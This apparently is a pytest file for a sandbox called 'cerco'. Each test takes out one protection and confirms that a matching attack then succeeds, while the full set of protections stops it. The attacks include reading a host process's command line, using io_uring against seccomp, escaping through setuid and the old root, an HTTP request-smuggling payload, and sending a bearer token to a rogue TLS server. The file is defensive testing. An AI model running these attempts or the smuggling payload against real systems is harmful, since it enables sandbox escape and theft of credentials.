"""Each protection, taken away, lets its attack through; with everything in place the attack fails."""
# lane: full
import ast
import dataclasses
import os
import pathlib
import re
import shutil
import socket
import subprocess
import typing

import pytest

from cerco import GUARD, ROOT, Cerco, descendants_of, wait_until
from world import DNS, PUBLIC, Authority

SOURCE = pathlib.Path(__file__).with_name("probe.c")
# Nothing that happens to mounts in there is seen outside.
THROW_AWAY = ("unshare", "--mount", "--propagation", "private")


@dataclasses.dataclass
class Row:
    """One attack. `attack` and `flags` may name {placeholders} of the fixture `place`; `without` begins with the
    protection that the row is about, and what follows are further layers that stop the attack as well: taking out all
    but one of the list is shown not to be enough, whichever stays."""
    without: tuple
    attack: tuple
    stopped: typing.Callable  # of a result, everything in place
    through: typing.Callable = lambda result: result.text.startswith("GOT")
    flags: tuple = ()
    prefix: tuple = ()
    probe: bool = True  # `attack` is an attempt of probe.c, which is put into the working folder


def refused(*names):
    """The attempt came back with one of these errors."""
    return lambda result: result.status == 1 and result.text.strip() in names


def says(pattern):
    return lambda result: re.search(pattern, result.text, re.M) is not None


HOG = ("python3", "-c", "x = bytearray(1 << 28); print(len(x))")

ROWS = {
    "cgroup": Row(("cgroup",), HOG, lambda result: result.status == 137 and result.out == b"", says("^268435456$"),
                  flags=("--set", "limits.memory=64MiB"), probe=False),
    # The owner of the file has the number that the workload has inside.
    "user_namespace": Row(("user_namespace",), ("read", "{private}"), refused("EACCES"), flags=("--ro", "{private}")),
    # The command line of a process of the host, where people put passwords.
    "pid_namespace": Row(("pid_namespace",), ("read", "/proc/{sleeper}/cmdline"), refused("ENOENT")),
    "private_proc": Row(("private_proc",), ("read", "/proc/{sleeper}/cmdline"), refused("ENOENT")),
    "mount_namespace": Row(("mount_namespace",), ("/bin/cat", "{canary}"), lambda result: result.status == 1 and result.out == b"",
                           says("^canary$"), prefix=THROW_AWAY, probe=False),
    "network_namespace": Row(("network_namespace",), ("connect", "127.0.0.1", "{port}"), refused("ECONNREFUSED")),
    "uts_namespace": Row(("uts_namespace",), ("uname", "-n"), says("^sandbox$"),
                         lambda result: result.text.strip() == socket.gethostname(), probe=False),
    "cgroup_namespace": Row(("cgroup_namespace",), ("cat", "/proc/self/cgroup"),
                            lambda result: result.status == 0 and ":/" in result.text and "cerco-" not in result.text,
                            lambda result: f"cerco-{result.report['run']}" in result.text, probe=False),
    "read_only_base": Row(("read_only_base", "landlock"), ("write", "{open}"), refused("EROFS", "EACCES"), flags=("--ro", "{open}")),
    "landlock": Row(("landlock", "read_only_base"), ("write", "{open}"), refused("EROFS", "EACCES"), flags=("--ro", "{open}")),
    # What other users of the host share among themselves.
    "minimal_dev": Row(("minimal_dev",), ("read", "{shm}"), refused("ENOENT")),
    # The old root would still lie below the new one, for who has rights over mounts.
    "pivot_root": Row(("pivot_root", "user_namespace", "drop_capabilities", "landlock", "seccomp"), ("below_root", "{canary}"),
                      refused("EPERM"), prefix=THROW_AWAY),
    "drop_capabilities": Row(("drop_capabilities",), ("become_root",), refused("EPERM")),
    # A set-user-id program of the host's root, in a folder that comes in as the host has it.
    "no_new_privs": Row(("no_new_privs", "user_namespace", "read_only_base"), ("{suid}", "setuid_program", "{suid}"), refused("EPERM"),
                        flags=("--ro", "{suid}"), probe=False),
    "seccomp": Row(("seccomp",), ("io_uring",), refused("ENOSYS")),
    "rlimits": Row(("rlimits",), ("open_many", "100"), refused("EMFILE"), flags=("--set", "limits.files=77")),
    "session_keyring": Row(("session_keyring", "seccomp"), ("find_key", "cerco-canary"), refused("ENOSYS", "EPERM"),
                           prefix=("{probe}", "with_key", "cerco-canary")),
    # It fails without the rules as well, but nobody learns that it was tried.
    "capture": Row(("capture",), ("connect", "10.1.2.3", "80"),
                   lambda result: result.text.strip() == "ECONNREFUSED" and "10.1.2.3" in [r["host"] for r in result.report["refused"]],
                   lambda result: result.status == 1 and result.report["refused"] == []),
}

# Protections whose attack and control are a test of their own.
ELSEWHERE = {
    "ipc_namespace": "tests/escape/test_escape.py::test_sockets_and_shared_memory_of_the_host",
    "time_namespace": "tests/escape/test_escape.py::test_the_hosts_uptime_does_not_show",
    "proc_masks": "tests/escape/test_escape.py::test_masks_are_what_hides_it",
    "disk_limit": "tests/e2e/test_run.py::test_without_the_disk_limit_the_filler_succeeds",
    "memory_limit": "tests/e2e/test_run.py::test_without_the_memory_limit_the_hog_succeeds",
    "process_limit": "tests/e2e/test_run.py::test_process_limit",
    "wall_limit": "tests/e2e/test_run.py::test_without_the_time_limit_the_command_ends_by_itself",
    "cpu_limit": "tests/escape/test_controls.py::test_cpu_limit",
    "processor_time_limit": "tests/e2e/test_limits.py::test_processor_time_is_limited",
    "name_filter": "tests/e2e/test_egress.py::test_a_name_that_is_not_allowed_is_never_asked_for",
    "address_guard": "tests/e2e/test_egress.py::test_without_the_guard_the_private_address_is_reached",
    "sni_check": "tests/e2e/test_egress.py::test_a_tunnel_is_opaque_and_checked_by_its_name",
    "strict_http": "tests/escape/test_controls.py::test_strict_http",
    "upstream_verify": "tests/escape/test_controls.py::test_upstream_verify",
    "base_as_nobody": "tests/e2e/test_scratch.py::test_what_is_the_hosts_roots_alone_is_not_read",
    "io_limit": "tests/e2e/test_scratch.py::test_limits_io_is_held_or_refused",
    "binding": "tests/e2e/test_credentials.py::test_without_the_binding_it_goes_to_the_other_path",
    "redaction": "tests/e2e/test_credentials.py::test_what_the_server_says_back_is_redacted",
}


def protections():
    """The names of plan::Protection, from the header."""
    text = (ROOT / "src/plan/plan.h").read_text()
    body = re.search(r"enum class Protection \{(.*?)\};", text, re.S)[1]
    return [name for name in re.findall(r"^\s*(\w+)(?:,|$)", body, re.M) if name != "last_"]


def taken_out_by(node):
    """The protections that a test takes out, as its source says."""
    path, _, name = node.partition("::")
    tree = ast.parse((ROOT / path).read_text())
    found = [f for f in tree.body if isinstance(f, ast.FunctionDef) and f.name == name]
    assert found, f"{node} does not exist"
    return {constant.value for keyword in ast.walk(found[0]) if isinstance(keyword, ast.keyword) and keyword.arg == "without"
            for constant in ast.walk(keyword.value) if isinstance(constant, ast.Constant)}


def test_every_protection_has_its_attack(cerco):
    names = protections()
    assert len(names) >= 33 and sorted(names) == sorted([*ROWS, *ELSEWHERE])
    assert [name for name, row in ROWS.items() if row.without[0] != name] == []
    assert [name for name, node in ELSEWHERE.items() if name not in taken_out_by(node)] == []
    # The names are the program's own.
    assert "no protection" in cerco("nothing", "version", program="cerco-without").error
    assert cerco(",".join(names), "version", program="cerco-without").status == 0


@pytest.fixture(scope="module")
def probe(tmp_path_factory):
    path = tmp_path_factory.mktemp("probe") / "probe"
    subprocess.run(["gcc", "-O1", "-Wall", "-o", str(path), str(SOURCE)], check=True)
    return path


@pytest.fixture(scope="module")
def place(probe):
    """What the attacks are after: canaries on the host, a process and a server of its own."""
    # Not below /tmp, which is the workload's own inside.
    folder = pathlib.Path(f"/opt/cerco-canary-{os.getpid()}")
    folder.mkdir()
    shm = pathlib.Path(f"/dev/shm/cerco-canary-{os.getpid()}")
    canary, private, writable, suid = (folder / name for name in ("canary", "private", "open", "suid"))
    sleeper = subprocess.Popen(["sleep", "6000"])
    with socket.create_server(("127.0.0.1", 0)) as server:
        for path in (canary, shm, private, writable):
            path.write_text("canary\n")
            path.chmod(0o644)
        private.chmod(0o600)
        os.chown(private, 1000, 1000)
        writable.chmod(0o666)
        suid.write_bytes(probe.read_bytes())
        suid.chmod(0o4755)
        yield {"canary": canary, "shm": shm, "private": private, "open": writable, "suid": suid, "probe": probe, "sleeper": sleeper.pid,
               "port": server.getsockname()[1]}
    shutil.rmtree(folder)
    shm.unlink()
    sleeper.kill()
    sleeper.wait()


def attack(row, place, cerco, without):
    def fill(words):
        return [str(word).format(**place) for word in words]
    cerco = Cerco(cerco.folder, prefix=fill(row.prefix))
    if not row.probe:
        return cerco.run(*fill(row.flags), "--", *fill(row.attack), without=without)
    return cerco.run(*fill(row.flags), "--in", f"{place['probe']}:probe", "--", "./probe", *fill(row.attack), without=without)


def outcome(result):
    """In words that are the same on every machine."""
    word = result.text.split(maxsplit=1)[0] if result.text.strip() else ""
    return word if re.fullmatch(r"GOT|E[A-Z]+", word) else f"status {result.status}"


OUTCOMES = {}  # protection → with everything in place, with it taken out


@pytest.mark.parametrize("name", ROWS)
def test_taken_out_the_attack_gets_through(shared_cerco, place, name):
    row = ROWS[name]
    whole = attack(row, place, shared_cerco, ())
    assert row.stopped(whole) and not row.through(whole), whole
    if len(row.without) > 1:
        for kept in row.without:
            others = [layer for layer in row.without if layer != kept]
            result = attack(row, place, shared_cerco, others)
            assert result.status != 125 and not row.through(result), (f"{kept} alone does not hold", result)
    weak = attack(row, place, shared_cerco, row.without)
    assert row.through(weak), weak
    both = (outcome(whole), outcome(weak))
    OUTCOMES[name] = both if both[0] != both[1] else ("does not show", "shows")


TABLE = ROOT / "docs/protections.md"
HEAD = """# Protections

Each protection of plan::Protection is taken out alone, by a program that only tests build, and the attack that it stops then gets
through. This is the table of the last run: `CERCO_WRITE=1 python3 -m pytest tests/escape/test_controls.py` writes it. The first part is run
here, with the attempts of tests/escape/probe.c; where further layers stop the same attack they are taken out with it, and each of them alone
is shown to hold. The second part names the test that takes the protection out.

| protection | taken out with | attack | in place | taken out |
|---|---|---|---|---|
"""
SECOND = """
| protection | test |
|---|---|
"""


def row_of(name, results):
    row = ROWS[name]
    words = " ".join(row.attack[:4] if row.attack != HOG else ("python3", "-c", "256 MiB of memory where 64 are allowed"))
    return f"| {name} | {', '.join(row.without[1:]) or '–'} | `{words}` | {' | '.join(results)} |\n"


def test_the_table_of_protections():
    if os.environ.get("CERCO_WRITE") and len(OUTCOMES) == len(ROWS):
        elsewhere = "".join(f"| {name} | {node} |\n" for name, node in sorted(ELSEWHERE.items()))
        TABLE.write_text(HEAD + "".join(row_of(name, OUTCOMES[name]) for name in sorted(ROWS)) + SECOND + elsewhere)
    text = TABLE.read_text()
    for name in ROWS:
        assert row_of(name, ()).removesuffix(" |\n") in text, name
    for name, node in ELSEWHERE.items():
        assert f"| {name} | {node} |\n" in text, name


def throttled(process):
    """How often the kernel held back what a run has below it."""
    for pid in descendants_of(process.pid):
        for line in pathlib.Path(f"/proc/{pid}/cgroup").read_text().splitlines():
            _, controllers, path = line.split(":", 2)
            if "/cerco-" not in path or controllers and "cpu" not in controllers.split(","):
                continue
            for mount in pathlib.Path("/proc/self/mountinfo").read_text().splitlines():
                fields = mount.split()
                kind = fields[fields.index("-") + 1:]
                if kind[0] == ("cgroup" if controllers else "cgroup2") and (not controllers or "cpu" in kind[2].split(",")):
                    stat = pathlib.Path(fields[4]) / os.path.relpath(path, fields[3]) / "cpu.stat"
                    if stat.exists() and (found := re.search(r"^nr_throttled (\d+)", stat.read_text(), re.M)):
                        return int(found[1])
    return 0


def test_cpu_limit(cerco):
    """E98: who wants more than its share is held back; the count is the kernel's own."""
    spin = ("import select, sys, time\nwhile time.process_time() < 0.3: pass\nprint('spun', flush=True)\n"
            "while not select.select([sys.stdin], [], [], 0)[0]: pass")

    def spun(held, **kwargs):
        args = ("run", "--set", "limits.cpus=0.1", "--", "python3", "-c", spin)
        process = cerco.start(*args, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, **kwargs)
        assert process.stdout.readline() == b"spun\n", process.stderr.read()
        # On a busy host it may be a while until it gets as much as its share.
        count = wait_until(lambda: throttled(process)) if held else throttled(process)
        process.communicate(b"\n", timeout=GUARD)
        assert process.returncode == 0
        return count
    assert spun(True) > 0
    assert spun(False, without=["cpu_limit"]) == 0


TOKEN = "sk-test-0a1b2c3d4e5f60718293"


@pytest.fixture(scope="module")
def net(world):
    world.plain = world.http("plain.test", address=PUBLIC[1])
    world.rogue = world.https("rogue.test", authority=Authority(world.folder, "rogue"))
    world.box = world.cerco(environment={"API_KEY": TOKEN})
    return world


def requests(server):
    return [entry for entry in server.entries() if entry["event"] == "request"]


def test_strict_http(net):
    """N97: a request that the gateway reads by its length and the server by its chunks hides a second one."""
    policy = f"""
version = 1
[network]
resolvers = ["{DNS}"]
[[egress]]
host = "plain.test"
ports = [80]
methods = ["POST"]
paths = ["/open"]
"""
    program = ("import socket\nhidden = b'0\\r\\n\\r\\nGET /secret HTTP/1.1\\r\\nHost: plain.test\\r\\n\\r\\n'\ns = socket.create_connection(('plain.test', 80))\n"
               "s.sendall(b'POST /open HTTP/1.1\\r\\nHost: plain.test\\r\\nContent-Length: %d\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n' % len(hidden) + hidden)\n"
               "s.settimeout(20)\nprint(s.recv(100).split()[1].decode())")
    net.plain.clear()
    whole = net.box.run("--", "python3", "-c", program, policy=policy)
    assert whole.text.strip() == "400" and requests(net.plain) == [], whole
    weak = net.box.run("--", "python3", "-c", program, policy=policy, without=["strict_http"])
    assert [r["path"] for r in requests(net.plain)] == ["/open", "/secret"], weak
    assert "/secret" not in {d["path"] for d in weak.of_type("egress.decision")}


def test_upstream_verify(net):
    """N181: a server with a certificate of somebody else's authority gets the secret only without the check."""
    policy = f"""
version = 1
[network]
resolvers = ["{DNS}"]
[[egress]]
host = "rogue.test"
methods = ["GET"]
[[credential]]
name = "api"
source = {{ env = "API_KEY" }}
hosts = ["rogue.test"]
methods = ["GET"]
paths = ["/**"]
inject = {{ header = "Authorization", format = "Bearer {{secret}}" }}
env = {{ API_KEY = "secret" }}
"""
    script = "curl -sS -m 20 -o /dev/null -w '%{http_code}' -H \"Authorization: Bearer $API_KEY\" https://rogue.test/"
    net.rogue.clear()
    whole = net.box.run("--", "sh", "-c", script, policy=policy)
    assert whole.text == "502" and requests(net.rogue) == [], whole
    weak = net.box.run("--", "sh", "-c", script, policy=policy, without=["upstream_verify"])
    assert weak.text == "200", weak
    assert [r["headers"]["authorization"] for r in requests(net.rogue)] == [f"Bearer {TOKEN}"]
